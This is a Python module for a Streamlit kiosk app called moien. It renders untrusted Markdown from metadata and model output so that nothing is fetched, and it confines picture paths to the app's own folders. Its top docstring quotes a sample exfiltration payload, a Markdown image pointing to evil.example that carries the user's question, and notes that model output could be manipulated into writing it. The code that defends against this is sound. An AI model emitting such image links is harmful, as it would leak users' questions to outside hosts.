"""What the Streamlit pages share: one core per server process, and rendering that fetches nothing.

Streamlit renders Markdown (``st.markdown``, ``st.write``, chat messages, even subheaders, captions and button
labels) and the browser then loads every image the Markdown names. Metadata and model output are not ours: a
record title ``![x](https://evil.example/?q=...)`` or an answer the model was talked into writing would make
the visitor's browser call an outside address (with the question in it) — the kiosk promise "never fetches
anything" would not hold. So everything that did not come from moien goes through :func:`safe_markdown`
(formatted text) or :func:`md_text` (plain text), and pictures through :func:`safe_picture`.
"""

from __future__ import annotations

import os
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import TYPE_CHECKING, Any

os.environ.setdefault("HAYSTACK_TELEMETRY_ENABLED", "False")

import streamlit as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from moien.assistants.core.engine import Core
from moien.lang import pick

if TYPE_CHECKING:
    from markdown_it.renderer import RendererHTML
    from markdown_it.utils import EnvType, OptionsDict


@st.cache_resource(show_spinner=False)
def get_core() -> Core:
    """One core (and so one model instance) per server process, shared by every browser session."""
    return Core()


# --- Markdown that fetches nothing ------------------------------------------------------------------------
#
# Why a parser and not regular expressions: Markdown has many ways to write an image (inline ``![a](u)``,
# reference ``![a][1]`` with ``[1]: u`` anywhere in the text, collapsed ``![a][]``, nested brackets, escapes,
# entities in the address), and raw HTML (``<img>``, ``<iframe>``, ``<video poster>``, ``<link>``, ``style``).
# A regex that misses one of them leaks. markdown-it-py (already installed, CommonMark-exact, the parser of
# mdformat and MyST) finds every image as a token, so we render those tokens as text, escape all raw HTML
# (``html=False``) and keep only links with a harmless scheme. Its HTML output then goes to Streamlit as an
# HTML block: it holds no tag that loads anything (no img, iframe, style, script), and Streamlit parses no
# Markdown inside it, so nothing can be smuggled past the parser.

#: schemes a link may keep; anything else (javascript:, data:, vbscript:, file:, …) stays visible as plain text
_LINK_SCHEMES = ("http", "https", "mailto")
#: shown in place of an image: language-neutral, so the answer's language is kept
_IMAGE_MARK = "🖼"


def _validate_link(url: str) -> bool:
    """Links keep http(s) and mailto addresses and relative ones; markdown-it leaves a refused link as text."""
    head = url.strip().split("/", 1)[0].split("?", 1)[0].split("#", 1)[0]
    if ":" not in head:  # relative or fragment: it stays on this page's server
        return True
    return head.split(":", 1)[0].strip().lower() in _LINK_SCHEMES


def _render_image(self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType) -> str:
    """An image becomes its alt text (already escaped by the text renderer), never an ``<img>``."""
    alt = self.renderInlineAsText(tokens[idx].children or [], options, env)
    return f"[{_IMAGE_MARK} {_escape_html(alt)}]" if alt.strip() else f"[{_IMAGE_MARK}]"


def _render_link_open(self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType) -> str:
    """Links open in a new tab and send no Referer: an outside site learns nothing of the page or question."""
    tokens[idx].attrSet("target", "_blank")
    tokens[idx].attrSet("rel", "noopener noreferrer nofollow")
    return self.renderToken(tokens, idx, options, env)


def _escape_html(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _parser() -> MarkdownIt:
    # "js-default": CommonMark plus tables and strikethrough (lesson plans use tables), html off, linkify off
    # (a bare address stays text; autolinks <https://…> become links, which the browser does not fetch)
    md = MarkdownIt("js-default", {"html": False, "linkify": False, "typographer": False})
    md.validateLink = _validate_link  # type: ignore[method-assign]
    md.add_render_rule("image", _render_image)
    md.add_render_rule("link_open", _render_link_open)
    return md


_MD = _parser()


def safe_markdown(text: str) -> str:
    """``text`` (Markdown from metadata or a model) as HTML that loads nothing: images become their alt text,
    raw HTML is shown escaped, links other than http(s)/mailto stay plain text. Show it with
    :func:`show_markdown` (or ``st.markdown(..., unsafe_allow_html=True)``: the HTML is ours, not the input's)."""
    html: str = _MD.render(text or "")
    # a blank line (only inside code blocks) would end Streamlit's HTML block and let it parse the rest as
    # Markdown again; an encoded newline keeps the code as written
    return "<div class='moien-md'>" + html.replace("\n\n", "\n&#10;").strip() + "</div>"


def secondary(text: str, where: Any = None) -> None:
    """A secondary line (a label, a notice, a count), in italics and the body's colour, rendered as Markdown like
    ``st.caption``. Why not ``st.caption``: its grey (#828180 on white, 3.9:1) is below WCAG 2.1 AA's 4.5:1 for text
    of its size (axe-core finds it), and kiosk visitors and civil servants must be able to read these lines."""
    (where if where is not None else st).markdown(f"*{text.strip()}*")


def show_markdown(text: str, where: Any = None) -> None:
    """Render untrusted Markdown into ``where`` (a column, a container, ``st.empty()``; default: the page)."""
    (where if where is not None else st).markdown(safe_markdown(text), unsafe_allow_html=True)


def stream_markdown(chunks: Iterable[str], where: Any = None) -> str:
    """``st.write_stream`` for untrusted text: the growing answer is rendered safely after each chunk (an image
    split over two chunks is still recognised once whole, and never shown half-written as Markdown)."""
    box = (where if where is not None else st).empty()
    text = ""
    for chunk in chunks:
        text += chunk
        box.markdown(safe_markdown(text), unsafe_allow_html=True)
    if not text:
        box.empty()
    return text


#: every ASCII punctuation may be backslash-escaped in CommonMark; Streamlit adds ``$`` (maths) and ``:`` (emoji
#: shortcodes, colours), which are punctuation too
_MD_PUNCT = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")


def md_text(text: str | None) -> str:
    """Plain text (a record title, a place name) for places where Streamlit renders Markdown but HTML is not
    allowed (``st.subheader``, ``st.caption``, button labels, table cells): every Markdown character is escaped,
    so ``![x](u)`` shows as written and fetches nothing."""
    return "".join("\\" + c if c in _MD_PUNCT else c for c in (text or ""))


# --- pictures only from moien's own folders -----------------------------------------------------------------

UI = {
    "no_picture": {
        "lb": "Kee Bild: d'Datei läit net am Bildduerchner vu moien oder ass kee Bild ({path}).",
        "fr": "Pas d'image : le fichier n'est pas dans le dossier d'images de moien ou n'est pas une image ({path}).",
        "de": "Kein Bild: Die Datei liegt nicht im Bildordner von moien oder ist kein Bild ({path}).",
        "en": "No picture: the file is not in moien's image folder or is not a picture ({path}).",
    }
}
_PICTURE_FORMATS = frozenset({"PNG", "JPEG", "GIF", "WEBP"})


def picture_roots(home: Path) -> tuple[Path, ...]:
    """The folders pictures may come from: the copies ``moien heritage images`` made and the shipped demo's.
    A record names its picture path itself, so without this a record could make the staff view read and serve
    any file the server can read (``/etc/passwd``, a key)."""
    import moien.heritage.demo
    from moien.heritage.images import images_dir

    return (images_dir(home), Path(moien.heritage.demo.__file__).parent / "images")


def safe_picture(path: str | Path | None, roots: Iterable[Path]) -> Path | None:
    """``path`` resolved, if it lies inside one of ``roots`` (links resolved first, so a symlink out is refused)
    and Pillow reads it as a PNG, JPEG, GIF or WebP picture; otherwise None."""
    if not path:
        return None
    from PIL import Image

    try:
        real = Path(path).resolve(strict=True)
        if not real.is_file() or not any(real.is_relative_to(r.resolve()) for r in roots):
            return None
        with Image.open(real) as im:
            fmt = im.format
            im.verify()  # reads the whole file: a truncated or forged picture fails here, not on the page
    except Exception:  # Pillow raises many kinds (OSError, SyntaxError, DecompressionBombError…)
        return None
    return real if fmt in _PICTURE_FORMATS else None


def show_picture(
    path: str | Path | None, roots: Iterable[Path], lang: str, where: Any = None, *, alt: str, **kw: Any
) -> bool:
    """Show the picture at ``path`` if :func:`safe_picture` accepts it, else a short note; True when shown.

    ``alt``: what the picture shows, for a screen reader (WCAG 1.1.1) — the object's title; required, because a
    picture without it is announced as a file name or not at all."""
    target = where if where is not None else st
    ok = safe_picture(path, roots)
    if ok is None:
        if path:
            secondary(pick(UI, "no_picture", lang, path=md_text(Path(path).name)), target)
        return False
    target.image(str(ok), alt=alt, **kw)
    return True
